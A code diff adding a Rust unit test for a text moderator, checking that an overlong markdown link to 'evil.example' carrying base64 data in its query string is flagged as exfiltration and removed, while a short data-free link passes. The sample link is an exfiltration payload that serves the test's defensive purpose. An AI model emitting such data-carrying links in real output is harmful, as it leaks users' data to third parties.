@@ -270,6 +270,31 @@ fn hold_back_cap_forces_release_of_long_undecided_text() {
 }
 
 #[test]
+fn a_link_too_long_to_judge_whole_is_treated_as_carrying_data() {
+    let cfg: ModerationConfig =
+        serde_json::from_str(r#"{"max_holdback_bytes":256,"links":{"max_url_bytes":128}}"#)
+            .unwrap();
+    let m = Moderator::new(&cfg).unwrap();
+    // The query string with the data starts after the first 128 bytes of the URL.
+    let long = format!(
+        "[click](https://evil.example/{}?d=c2VjcmV0) ok",
+        "ab/".repeat(60)
+    );
+    let r = m.scan(&long, &RequestContext::default());
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.category == Category::Exfiltration),
+        "{:?}",
+        r.findings
+    );
+    assert!(!r.text.contains("evil.example"), "{}", r.text);
+    // Short links to the same host without data stay untouched.
+    let short = "[click](https://evil.example/ab/ab) ok";
+    assert_eq!(m.scan(short, &RequestContext::default()).text, short);
+}
+
+#[test]
 fn reported_redactions_rebuild_the_released_text_from_the_original() {
     let m = moderator();
     for t in TEXTS {
